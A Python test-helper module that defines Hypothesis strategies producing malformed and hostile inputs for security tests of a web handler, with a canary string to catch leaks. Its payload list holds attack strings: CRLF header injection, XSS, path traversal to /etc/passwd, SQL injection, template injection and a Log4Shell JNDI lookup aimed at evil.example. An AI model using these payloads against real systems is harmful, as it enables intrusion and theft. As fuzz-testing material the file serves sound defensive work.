"""Odd text and bytes: what browsers, scanners and attackers send where something else belongs."""

from __future__ import annotations

from hypothesis import strategies as st

CANARY = "zq9canary"
"""Is in what is sent, and may be in no answer and no log."""

_TEXTS = (
    "",
    "%",
    "%00",
    "%0d%0aSet-Cookie: zq9canary=1",
    "%0d%0a%0d%0a<script>zq9canary</script>",
    "%e5%98%8a%e5%98%8dX-Split: zq9canary",
    "%ff%fe",
    "%ed%a0%80",
    "%u0000",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "../../../../etc/passwd",
    "//evil.example/zq9canary",
    "\\evil.example",
    "javascript:zq9canary",
    "<script>zq9canary</script>",
    "\"'><img src=x onerror=zq9canary>",
    "{{7*7}}zq9canary{{config}}",
    "${jndi:ldap://evil.example/zq9canary}",
    "' OR '1'='1' -- zq9canary",
    "\x00zq9canary",
    "\u202ezq9canary\u2066",
    "\U0001f600" * 20,
    "é" * 50,
    "٣٢١",
    "null",
    "-1",
    "9" * 40,
    "1e309",
    "a" * 3000,
    "@everyone zq9canary",
)
texts = st.sampled_from(_TEXTS) | st.text(max_size=60)
names = st.sampled_from(
    ("state", "code", "error", "iss", "all", "token", "ref", "act", "x", "")
) | (st.text(max_size=12))


def encoded(text: str) -> bytes:
    """Return a text as UTF-8; what can't be encoded stays three bytes that no one decodes."""
    return text.encode("utf-8", "surrogatepass")


raw = texts.map(encoded) | st.binary(max_size=60)
"""As it is: not percent-encoded, not even UTF-8."""
